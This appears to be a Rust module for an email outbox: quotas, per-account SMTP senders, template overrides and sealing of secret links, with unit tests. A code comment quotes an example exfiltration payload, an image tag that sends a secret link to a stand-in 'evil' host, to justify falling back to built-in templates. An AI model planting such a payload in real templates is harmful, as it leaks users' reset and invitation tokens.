//! Email: the outbox (R-MAIL-1), per-account servers (R-MAIL-2), sending as a user (R-MAIL-3)
//! and per-account templates (R-MAIL-4).
//!
//! A use case that sends mail calls [`Service::enqueue_email`] inside its own unit of work, so
//! the email exists exactly when the change does; after commit it calls
//! [`Service::mail_enqueued`] to wake the delivery worker ([`crate::mail::delivery`]).
use std::sync::Arc;
use std::time::Duration;

use roster_mail::{HiddenSecret, Route, SmtpTarget, TemplateName, TemplateSource};
use roster_store::{AccountRow, EmailRow, Tx};
use serde_json::Value;
use tokio::sync::Notify;
use uuid::Uuid;

use crate::signin::secret::SecretKey;
use crate::{Result, Service, ServiceError, now};

pub mod delivery;
pub(crate) mod outbox;
pub(crate) mod settings;
pub(crate) mod templates;
pub(crate) mod views;

pub use views::*;

/// The installation's mail settings (`ROSTER_PUBLIC_URL`, `ROSTER_MAIL_FROM`, `ROSTER_SMTP_URL`,
/// the secret key).
#[derive(Debug, Clone)]
pub struct MailConfig {
    /// Base of every link in an email, without a trailing slash.
    pub public_url: String,
    /// The installation's sender, `Name <address>` or `address`.
    pub from: String,
    /// The installation's server; `None` keeps mail queued except for accounts with their own.
    pub smtp: Option<SmtpTarget>,
    /// Seals account SMTP passwords and the secrets of queued emails.
    pub key: SecretKey,
    /// Egress and quotas (R-MAIL-7).
    pub policy: MailPolicy,
}

/// What accounts may do with mail (R-MAIL-7).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct MailPolicy {
    /// `ROSTER_SMTP_ALLOW_PRIVATE`: an account's own server may be a private address on any
    /// port (off: public addresses on 25, 465, 587 or 2525 only).
    pub allow_private_smtp: bool,
    /// `ROSTER_ACCOUNT_MAIL_PER_HOUR`: emails an account may enqueue per clock hour; an account
    /// less than a day old gets a twenty-fifth of it (at least 1).
    pub account_mail_per_hour: u32,
    /// How long "send test email" may take as a whole, and the connect timeout of account
    /// servers.
    pub smtp_timeout: Duration,
}

impl Default for MailPolicy {
    fn default() -> Self {
        Self { allow_private_smtp: false, account_mail_per_hour: 500, smtp_timeout: Duration::from_secs(10) }
    }
}

impl MailPolicy {
    /// The hourly limit of an account created at `created_at`, at `at`.
    pub fn hourly_limit(&self, created_at: time::OffsetDateTime, at: time::OffsetDateTime) -> u32 {
        let per_hour = self.account_mail_per_hour.max(1);
        if at - created_at < time::Duration::days(1) { (per_hour / 25).max(1) } else { per_hour }
    }
}

impl MailConfig {
    /// Settings for tests and tools: no server, a throwaway key.
    pub fn local(public_url: &str) -> Result<Self> {
        Ok(Self {
            public_url: public_url.trim_end_matches('/').to_owned(),
            from: "Roster <roster@localhost>".to_owned(),
            smtp: None,
            key: SecretKey::generate().map_err(ServiceError::Internal)?,
            policy: MailPolicy::default(),
        })
    }

    /// The installation's sender split into display name and address.
    pub(crate) fn sender_parts(&self) -> (Option<&str>, &str) {
        match self.from.rsplit_once('<') {
            Some((name, addr)) => {
                let name = name.trim().trim_matches('"').trim();
                (Some(name).filter(|n| !n.is_empty()), addr.trim_end_matches('>').trim())
            }
            None => (None, self.from.trim()),
        }
    }

    /// The host named in `Message-ID`s.
    fn message_id_host(&self) -> &str {
        let rest = self.public_url.split_once("://").map_or(self.public_url.as_str(), |(_, r)| r);
        let host = rest.split(['/', ':']).next().unwrap_or("localhost");
        if host.is_empty() { "localhost" } else { host }
    }
}

/// Shared by the service and its delivery worker.
pub(crate) struct MailState {
    pub config: MailConfig,
    pub wakeup: Notify,
}

pub(crate) type SharedMail = Arc<MailState>;

/// Who an email is from (R-MAIL-3).
#[derive(Debug, Clone, Copy)]
pub enum Sender<'a> {
    /// The installation itself (setup, operator mail).
    Installation,
    /// The account, by name (welcome, invitation, reset…).
    Account,
    /// A person writing to a contact: their name in From, their address in Reply-To, on the
    /// account's or installation's address so SPF and DMARC still pass.
    User { name: &'a str, email: &'a str },
}

/// One email to put in the outbox.
pub struct Mail<'a> {
    pub account: Option<&'a AccountRow>,
    pub template: TemplateName,
    pub to: &'a str,
    /// The template's tokens (`user`, `account`, `link`…).
    pub context: Value,
    pub sender: Sender<'a>,
    pub bcc: Option<&'a str>,
}

impl Service {
    /// Renders `mail` with the account's override of its template (the built-in one when there
    /// is none, or when the override fails to render) and writes it to the outbox in `tx`.
    pub async fn enqueue_email(&self, tx: &mut dyn Tx, mail: Mail<'_>) -> Result<EmailRow> {
        self.enqueue_email_with_subject(tx, mail, None).await
    }

    /// [`Service::enqueue_email`] with a subject that replaces the rendered one (already
    /// checked by the caller: one line, at most 200 characters).
    ///
    /// Account mail (`account` set) is refused when the account's owner has not proved their
    /// address (409 `owner_unverified`, R-AUTH-8) or when the account used up its hourly quota
    /// (429 `mail_quota`, R-MAIL-7). A template that carries a secret (R-MAIL-6) is stored with
    /// `[link hidden]` where the link goes and the link sealed beside it; when its recipient is
    /// not a proved login that belongs to this account alone (and is no operator), it is rendered
    /// from the built-in template and delivered only through the installation's server. Such a
    /// mail never carries a Bcc: the copy is an email of its own, with the link hidden.
    pub async fn enqueue_email_with_subject(
        &self,
        tx: &mut dyn Tx,
        mail: Mail<'_>,
        subject: Option<&str>,
    ) -> Result<EmailRow> {
        self.enqueue(tx, mail, subject, false).await
    }

    /// [`Service::enqueue_email`] of a template filled with sample data ("send me a test"): the
    /// sample link is no secret, so it is neither hidden nor sealed, and the account's override
    /// is always the one shown.
    pub(crate) async fn enqueue_sample_email(&self, tx: &mut dyn Tx, mail: Mail<'_>) -> Result<EmailRow> {
        self.enqueue(tx, mail, None, true).await
    }

    async fn enqueue(&self, tx: &mut dyn Tx, mail: Mail<'_>, subject: Option<&str>, sample: bool) -> Result<EmailRow> {
        let account_id = mail.account.map(|a| a.id);
        if let Some(account) = mail.account {
            self.count_account_mail(tx, account).await?;
        }
        let mut context = mail.context;
        let secrets = if sample { Vec::new() } else { roster_mail::hide_secrets(mail.template, &mut context) };
        let foreign = match mail.account {
            Some(a) if mail.template.carries_secret() && !sample => !answers_alone_for(tx, a.id, mail.to).await?,
            _ => false,
        };
        let installation_only = foreign || mail.template.route() == Route::InstallationOnly;
        let source = match account_id {
            // An override could carry the link elsewhere (`<img src="https://evil/?{{ link }}">`):
            // mail with a secret for someone the account does not alone answer for uses the
            // built-in template (decision 0011).
            Some(a) if !foreign => tx
                .template_override(a, mail.template.as_str())
                .await?
                .map(|t| TemplateSource::new(t.subject, t.text_body, t.html_body)),
            _ => None,
        };
        let rendered = match source.map(|s| roster_mail::render(&s, &context)) {
            Some(Ok(r)) if roster_mail::placeholders_present(&r.text, &r.html, &secrets) => r,
            other => {
                match other {
                    Some(Err(e)) => {
                        tracing::warn!(template = %mail.template, error = %e, "account template failed; built-in used");
                    }
                    Some(Ok(_)) => {
                        tracing::warn!(template = %mail.template, "account template lost its link; built-in used");
                    }
                    None => {}
                }
                roster_mail::render(&mail.template.builtin(), &context)
                    .map_err(|e| ServiceError::Internal(format!("built-in template {}: {e}", mail.template)))?
            }
        };
        let (from, reply_to) = self.sender_of(tx, mail.account, mail.sender).await?;
        let id = Uuid::now_v7();
        let t = now();
        let secret_sealed = if secrets.is_empty() { None } else { Some(self.seal_secrets(id, &secrets)?) };
        // R-MAIL-6: a Bcc would copy the link; the copy goes as an email of its own instead.
        let (bcc, copy_to) = if secrets.is_empty() { (mail.bcc, None) } else { (None, mail.bcc) };
        let row = EmailRow {
            id,
            account_id,
            template: mail.template.as_str().to_owned(),
            to_addr: mail.to.to_owned(),
            from_addr: from,
            reply_to,
            bcc: bcc.map(str::to_owned),
            subject: subject.map_or(rendered.subject, str::to_owned),
            text_body: rendered.text,
            html_body: rendered.html,
            message_id: format!("<{}@{}>", id.simple(), self.mail.config.message_id_host()),
            status: "queued".to_owned(),
            attempts: 0,
            next_attempt_at: t,
            lease_until: None,
            last_error: None,
            created_at: t,
            sent_at: None,
            installation_only,
            secret_sealed,
        };
        tx.enqueue_email(&row).await?;
        if let Some(copy_to) = copy_to {
            if let Some(account) = mail.account {
                self.count_account_mail(tx, account).await?;
            }
            let copy_id = Uuid::now_v7();
            let copy = EmailRow {
                id: copy_id,
                to_addr: copy_to.to_owned(),
                bcc: None,
                message_id: format!("<{}@{}>", copy_id.simple(), self.mail.config.message_id_host()),
                installation_only: mail.template.route() == Route::InstallationOnly,
                secret_sealed: None,
                ..row.clone()
            };
            tx.enqueue_email(&copy).await?;
        }
        Ok(row)
    }

    /// Counts one email of `account` against its hourly quota, after checking that its owner
    /// proved their address (R-AUTH-8, R-MAIL-7).
    pub(crate) async fn count_account_mail(&self, tx: &mut dyn Tx, account: &AccountRow) -> Result<()> {
        let owner = tx.user_by_id(account.owner_id).await?;
        if owner.is_none_or(|o| o.email_verified_at.is_none()) {
            return Err(ServiceError::Rule {
                rule: "R-AUTH-8",
                code: roster_core::ProblemCode::OwnerUnverified,
                message: "This account sends no email until its owner confirms their email address with the link \
                          sent to it."
                    .to_owned(),
            });
        }
        let t = now();
        let limit = self.mail.config.policy.hourly_limit(account.created_at, t);
        let hour = t.unix_timestamp().div_euclid(3600);
        if tx.count_account_email(account.id, hour, i64::from(limit)).await? {
            return Ok(());
        }
        let retry_after = u64::try_from((hour + 1) * 3600 - t.unix_timestamp()).unwrap_or(3600).max(1);
        Err(ServiceError::Limited {
            code: roster_core::ProblemCode::MailQuota,
            rule: Some("R-MAIL-7"),
            message: format!(
                "This account has sent its {limit} emails for this hour; nothing was sent. Try again in {} minutes.",
                retry_after.div_ceil(60)
            ),
            retry_after: Some(Duration::from_secs(retry_after)),
        })
    }

    /// The secrets of email `id`, sealed with the installation's key and bound to the email.
    fn seal_secrets(&self, id: Uuid, secrets: &[HiddenSecret]) -> Result<Vec<u8>> {
        let plain = serde_json::to_vec(secrets).map_err(|e| ServiceError::Internal(e.to_string()))?;
        self.mail.config.key.seal(id.as_bytes(), &plain).map_err(ServiceError::Internal)
    }

    /// What [`Service::seal_secrets`] sealed for email `id`.
    pub(crate) fn open_secrets(&self, id: Uuid, sealed: &[u8]) -> std::result::Result<Vec<HiddenSecret>, String> {
        let plain = self.mail.config.key.open(id.as_bytes(), sealed).map_err(|e| e.to_string())?;
        serde_json::from_slice(&plain).map_err(|_| "the sealed secrets of this email do not read back".to_owned())
    }

    /// Wakes the delivery worker after a commit that enqueued mail.
    pub fn mail_enqueued(&self) {
        self.mail.wakeup.notify_one();
    }

    /// The installation's mail settings.
    pub fn mail_config(&self) -> &MailConfig {
        &self.mail.config
    }

    /// From and Reply-To for a sender: the address is the account's own server's when it has
    /// one, else the installation's; the name says who it is from.
    async fn sender_of(
        &self,
        tx: &mut dyn Tx,
        account: Option<&AccountRow>,
        sender: Sender<'_>,
    ) -> Result<(String, Option<String>)> {
        let (install_name, install_addr) = self.mail.config.sender_parts();
        let own = match account {
            Some(a) => tx.smtp_settings(a.id).await?.map(|s| s.from_addr),
            None => None,
        };
        let addr = own.as_deref().unwrap_or(install_addr);
        let (name, reply_to) = match (sender, account) {
            (Sender::User { name, email }, Some(a)) => (Some(format!("{name} via {}", a.name)), Some(email.to_owned())),
            (Sender::User { name, email }, None) => (Some(name.to_owned()), Some(email.to_owned())),
            (Sender::Account, Some(a)) => (Some(a.name.clone()), None),
            (Sender::Account | Sender::Installation, _) => (install_name.map(str::to_owned), None),
        };
        let from = roster_mail::mailbox(name.as_deref(), addr)
            .map_err(|e| ServiceError::Internal(format!("sender address {addr:?}: {e}")))?;
        Ok((from, reply_to))
    }
}

/// A bulk invitation longer than [`crate::BULK_MAX_ROWS`] rows (R-MAIL-7): 429 `bulk_limit`.
pub(crate) fn too_many_rows() -> ServiceError {
    ServiceError::Limited {
        code: roster_core::ProblemCode::BulkLimit,
        rule: Some("R-MAIL-7"),
        message: format!(
            "Send at most {} invitations in one request; split the list and send the rest after.",
            crate::BULK_MAX_ROWS
        ),
        retry_after: None,
    }
}

/// Whether the account answers alone for the login at `to`: it exists, proved its address,
/// is no operator and belongs to `account_id` and no other account. Only then may a secret for
/// it go through the account's own server and templates (R-MAIL-6): for anyone else, the
/// account's admins must not be able to read the link.
async fn answers_alone_for(tx: &mut dyn Tx, account_id: Uuid, to: &str) -> Result<bool> {
    let Some(user) = tx.user_by_email(&to.trim().to_lowercase()).await? else { return Ok(false) };
    if user.is_operator || user.email_verified_at.is_none() {
        return Ok(false);
    }
    let memberships = tx.memberships_of_user(user.id).await?;
    Ok(!memberships.is_empty() && memberships.iter().all(|(a, _)| a.id == account_id))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn r_mail_7_a_new_account_gets_a_twenty_fifth_of_the_hourly_quota() {
        let policy = MailPolicy::default();
        let t = now();
        assert_eq!(policy.hourly_limit(t - time::Duration::hours(23), t), 20);
        assert_eq!(policy.hourly_limit(t - time::Duration::days(2), t), 500);
        let small = MailPolicy { account_mail_per_hour: 10, ..policy };
        assert_eq!(small.hourly_limit(t, t), 1, "never zero");
    }

    #[test]
    fn r_mail_6_views_hide_the_tokens_of_older_emails() {
        assert_eq!(
            hide_tokens("Open https://r.test/password-reset?token=reset_Ab-9_x now"),
            "Open https://r.test/password-reset?token=[link hidden] now"
        );
        assert_eq!(
            hide_tokens("<a href=\"https://r.test/invitations/accept?token=invite_q&amp;x=1\">"),
            "<a href=\"https://r.test/invitations/accept?token=[link hidden]&amp;x=1\">"
        );
        assert_eq!(hide_tokens("no token= here [link hidden]"), "no token= here [link hidden]");
    }

    #[test]
    fn installation_sender_splits_into_name_and_address() {
        let mut c = MailConfig::local("https://roster.example.com/").expect("config");
        assert_eq!(c.sender_parts(), (Some("Roster"), "roster@localhost"));
        assert_eq!(c.message_id_host(), "roster.example.com");
        c.from = "bare@example.com".into();
        assert_eq!(c.sender_parts(), (None, "bare@example.com"));
        c.public_url = "http://127.0.0.1:8080".into();
        assert_eq!(c.message_id_host(), "127.0.0.1");
    }
}
